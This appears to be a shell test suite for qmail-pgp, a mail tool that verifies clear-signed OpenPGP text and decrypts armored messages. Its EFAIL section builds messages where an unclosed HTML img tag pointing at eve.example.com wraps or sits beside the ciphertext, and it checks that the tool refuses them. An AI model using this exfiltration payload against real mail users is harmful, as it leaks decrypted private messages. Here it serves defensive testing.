#!/bin/sh
# OpenPGP in the text of a message: clear-signed text is verified and taken off, an armored message is opened, at the root of the
# message and where nothing else stands beside it.
# shellcheck source=tests/lib.sh
. tests/lib.sh
# shellcheck source=tests/pgp/people.sh
. tests/pgp/people.sh
ok 'keys are made' people

header() { printf 'From: Ann <ann@example.org>\nTo: bob@example.net\nSubject: x\n'; }
text() { printf 'MIME-Version: 1.0\nContent-Type: text/plain; charset=%s\n%s\n' "${1-utf-8}" "${2-}"; }
verdict() { # message
	./qmail-pgp -v -w "$1" "$P/ann.cert" "$P/ann-sqop.cert" >"$T/lines" 2>"$T/err"
	echo "$? $(sed -n 's/^x-openpgp=\([a-z]*\)\(.*policy.x-openpgp=\([a-z-]*\)\)*.*/\1 \3/p' "$T/lines" | sed 's/ $//; s/ /:/' | paste -s -d / -) $(sed -n 's/^is=//p' "$T/lines")"
}
clearsign() { pgp_gpg --clearsign -u "$(cat "$P/ann.fpr")"; }
seal() { pgp_gpg --armor -e -r "$(cat "$P/bob.fpr")"; }
opens() { # message: exit code and what is said
	: >"$T/out"
	./qmail-pgp -d -R "$T/results" "$1" "$T/out" "$P/bob.key" "$P/ann.cert" >"$T/said" 2>&1
	echo "$? $(cat "$T/said")"
}
body() { sed '1,/^$/d' "$1"; }
closed='1 qmail-pgp: the message cannot be decrypted'

# ---- clear-signed ----

printf 'Dear Bob,\n\n- an item\n-- \nAnn \n' | clearsign >"$T/signed"
{ header && text && cat "$T/signed"; } >"$T/m"
is 'clear-signed text' "$(verdict "$T/m")" '0 pass pass'
ok '  it is part 1' grep -q 'part=1$' "$T/lines"
sed 's/$/\r/' "$T/m" >"$T/crlf"
is '  with CRLF' "$(verdict "$T/crlf")" '0 pass pass'
sed 's/^Ann $/Ann/' "$T/m" >"$T/changed"
is '  blanks at line ends do not count here (RFC 4880 7.1)' "$(verdict "$T/changed")" '0 pass pass'
sed 's/^Dear/Deer/' "$T/m" >"$T/changed"
is '  changed' "$(verdict "$T/changed")" '1 fail:signature fail'
sed 's/^- -- $/-- /' "$T/m" >"$T/changed"
is '  a dash that is not escaped' "$(verdict "$T/changed")" '1 neutral:syntax unknown'
sed 's/^Hash:.*/&\nPay: 100/' "$T/m" >"$T/changed"
is '  another field before the text, which readers show' "$(verdict "$T/changed")" '1 neutral:syntax unknown'
sed 's/^Hash:.*/&, Pay 100/' "$T/m" >"$T/changed"
is '  text in the Hash field, which they show, too' "$(verdict "$T/changed")" '1 neutral:syntax unknown'
sed '/^Hash:/d' "$T/m" >"$T/changed"
is '  no Hash field' "$(verdict "$T/changed")" '0 pass pass'
sed 's/^Hash:.*/Hash: MD5/' "$T/m" >"$T/changed"
ok '  a Hash field that lies: the one in the signature counts' sh -c 'case $1 in "0 pass pass" | 1*) ;; *) exit 1 ;; esac' sh "$(verdict "$T/changed")"
{ cat "$T/m" && printf -- '-- \nlist\n'; } >"$T/changed"
is '  a text behind it' "$(verdict "$T/changed")" '1 policy:text-outside unknown'
{ header && text && echo 'Pay 100.' && cat "$T/signed"; } >"$T/changed"
is '  a text before it' "$(verdict "$T/changed")" '1 policy:text-outside unknown'
{ cat "$T/m" "$T/signed"; } >"$T/changed"
is '  a second one' "$(verdict "$T/changed")" '1 policy:text-outside unknown'
{ header && text && sed '/^-----BEGIN PGP SIGNATURE/,$d' "$T/signed"; } >"$T/changed"
is '  no signature' "$(verdict "$T/changed")" '1 neutral:syntax unknown'
sed '/^-----END/d' "$T/m" >"$T/changed"
is '  no end' "$(verdict "$T/changed")" '1 neutral:syntax unknown'
{ header && text utf-8 "Content-Transfer-Encoding: base64
" && openssl base64 <"$T/signed"; } >"$T/changed"
is '27: in base64' "$(verdict "$T/changed")" '0 pass pass'
{ header && text utf-8 "Content-Transfer-Encoding: base64
" && openssl base64 <"$T/signed" | sed '2s/.$/!/'; } >"$T/changed"
is '  damaged base64, which readers decode in different ways' "$(verdict "$T/changed")" '1 neutral:ambiguous unknown'
perl -MMIME::QuotedPrint -e 'local $/; print encode_qp(<STDIN>)' <"$T/signed" >"$T/qp"
{ header && text utf-8 "Content-Transfer-Encoding: quoted-printable
" && cat "$T/qp"; } >"$T/quoted"
is '27: in quoted-printable' "$(verdict "$T/quoted")" '0 pass pass'
{ header && printf 'Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n' && cat "$T/signed" && printf -- '\n--b--\n'; } >"$T/changed"
is '  in a part: not looked at' "$(verdict "$T/changed")" '3 none '
{ header && printf 'Content-Type: text/html\n\n<pre>\n' && cat "$T/signed" && printf '</pre>\n'; } >"$T/changed"
is '27: in HTML: not looked at' "$(verdict "$T/changed")" '3 none '
{ header && printf '\n' && cat "$T/signed"; } >"$T/changed"
is '  without MIME' "$(verdict "$T/changed")" '0 pass pass'
./qmail-pgp -u "$T/quoted" "$T/out"
is '-u: the text without the signature' "$? $(body "$T/out" | paste -s -d '|' -)" '0 Dear Bob,||- an item|-- |Ann '
ok '  the charset stays' grep -qx 'Content-Type: text/plain; charset=utf-8' "$T/out"
ok '  the transfer encoding is gone' sh -c '! grep -qi "^Content-Transfer" "$1"' sh "$T/out"
printf 'Gr\374\337e\n' | clearsign >"$T/latin"
{ header && text iso-8859-1 "Content-Transfer-Encoding: 8bit
" && cat "$T/latin"; } >"$T/m2"
is 'in Latin-1' "$(verdict "$T/m2")" '0 pass pass'
./qmail-pgp -u "$T/m2" "$T/out"
is '  taken off: 7 bits, and the same set' "$(body "$T/out")" 'Gr=FC=DFe'
ok '  yes' grep -qx 'Content-Type: text/plain; charset=iso-8859-1' "$T/out"
{ cat "$T/m" && echo more; } >"$T/changed"
cp "$T/m" "$T/out"
./qmail-pgp -u "$T/changed" "$T/out" 2>"$T/err"
is '  with a text beside it: it stays' "$? $(cat "$T/err")" '1 qmail-pgp: text outside the signed part'
ok '  and nothing is written' cmp "$T/out" "$T/m"

# ---- encrypted ----

printf 'Gr\303\274\303\237e\n' | seal >"$T/sealed"
{ header && text && cat "$T/sealed"; } >"$T/m"
is 'an encrypted text' "$(opens "$T/m")" '0 '
is '  opened' "$(body "$T/out")" 'Gr=C3=BC=C3=9Fe'
ok '  the charset stays' grep -qx 'Content-Type: text/plain; charset=utf-8' "$T/out"
is '  one Content-Type' "$(grep -ci '^content-type:' "$T/out")" 1
is '  the other fields stay' "$(sed -n '1,3p' "$T/out")" "$(header)"
{ header && printf '\n' && cat "$T/sealed"; } >"$T/m2"
is '  without MIME' "$(opens "$T/m2")" '0 '
is '  becomes MIME, in UTF-8' "$(grep -c '^MIME-Version: 1.0$\|^Content-Type: text/plain; charset=utf-8$' "$T/out")" 2
perl -MMIME::QuotedPrint -e 'local $/; print encode_qp(<STDIN>)' <"$T/sealed" >"$T/qp"
{ header && text utf-8 "Content-Transfer-Encoding: quoted-printable
" && cat "$T/qp"; } >"$T/m2"
is '27: in quoted-printable' "$(opens "$T/m2") $(body "$T/out")" '0  Gr=C3=BC=C3=9Fe'
{ header && printf 'Content-Type: application/pgp; format=text; x-action=encrypt\n\n' && cat "$T/sealed"; } >"$T/m2"
is 'application/pgp becomes text' "$(opens "$T/m2") $(grep -ci '^content-type: text/plain' "$T/out")" '0  1'
{ header && text && echo 'Hi' && cat "$T/sealed"; } >"$T/m2"
is 'a text before it: closed' "$(opens "$T/m2")" "$closed"
{ header && text && cat "$T/sealed" && echo 'Hi'; } >"$T/m2"
is 'a text behind it: closed' "$(opens "$T/m2")" "$closed"
{ header && text && cat "$T/sealed" "$T/sealed"; } >"$T/m2"
is 'two of them: closed' "$(opens "$T/m2")" "$closed"
{ header && printf 'Content-Type: text/html\n\n<img src="http://eve.example.com/\n' && cat "$T/sealed" && printf '">\n'; } >"$T/m2"
is 'in HTML: left alone' "$(opens "$T/m2")" '3 qmail-pgp: the message is not encrypted'
{ header && printf 'Content-Type: text/html\n\n' && cat "$T/sealed"; } >"$T/m2"
is '  also where nothing is around' "$(opens "$T/m2")" '3 qmail-pgp: the message is not encrypted'

# ---- parts beside it, as an attacker puts them there to get the text (EFAIL) ----

mixed() { # kind; stdin: parts
	header
	printf 'MIME-Version: 1.0\nContent-Type: multipart/%s; boundary=b\n\n' "$1"
	cat
	printf -- '--b--\n'
}
part() { printf -- '--b\nContent-Type: %s\n\n' "$1" && cat && echo; }
version() { echo 'Version: 1' | part application/pgp-encrypted; }
html='<img src="http://eve.example.com/'
{ version && part application/octet-stream <"$T/sealed"; } | mixed 'encrypted; protocol="application/pgp-encrypted"' >"$T/m2"
is 'multipart/encrypted' "$(opens "$T/m2")" '0 '
{ version && part application/octet-stream <"$T/sealed"; } | mixed mixed >"$T/m2"
is '18: turned into multipart/mixed' "$(opens "$T/m2")" '0 '
for kind in mixed 'encrypted; protocol="application/pgp-encrypted"' related alternative; do
	{ echo "$html" | part text/html && version && part application/octet-stream <"$T/sealed"; } | mixed "$kind" >"$T/m2"
	ok "HTML before it, $kind" sh -c 'case $1 in 0*) exit 1 ;; esac' sh "$(opens "$T/m2")"
	ok '  nothing is written' test ! -s "$T/out"
	{ version && part application/octet-stream <"$T/sealed" && echo "$html" | part text/html; } | mixed "$kind" >"$T/m2"
	ok "HTML behind it, $kind" sh -c 'case $1 in 0*) exit 1 ;; esac' sh "$(opens "$T/m2")"
	ok '  nothing is written' test ! -s "$T/out"
	{ version && part application/octet-stream <"$T/sealed" && version && part application/octet-stream <"$T/sealed"; } | mixed "$kind" >"$T/m2"
	ok "two encrypted parts, $kind" sh -c 'case $1 in 0*) exit 1 ;; esac' sh "$(opens "$T/m2")"
	{ version && part application/octet-stream <"$T/sealed" && part application/octet-stream <"$T/sealed"; } | mixed "$kind" >"$T/m2"
	ok "a second one without version, $kind" sh -c 'case $1 in 0*) exit 1 ;; esac' sh "$(opens "$T/m2")"
	ok '  nothing is written' test ! -s "$T/out"
done
{ echo 'Hi' | part text/plain && version && part application/octet-stream <"$T/sealed"; } | mixed mixed >"$T/m2"
ok 'a text beside the mangled form' sh -c 'case $1 in 0*) exit 1 ;; esac' sh "$(opens "$T/m2")"
{ version && { cat "$T/sealed" && echo 'Hi'; } | part application/octet-stream; } | mixed 'encrypted; protocol="application/pgp-encrypted"' >"$T/m2"
is 'a text in the encrypted part' "$(opens "$T/m2")" "$closed"

done_testing
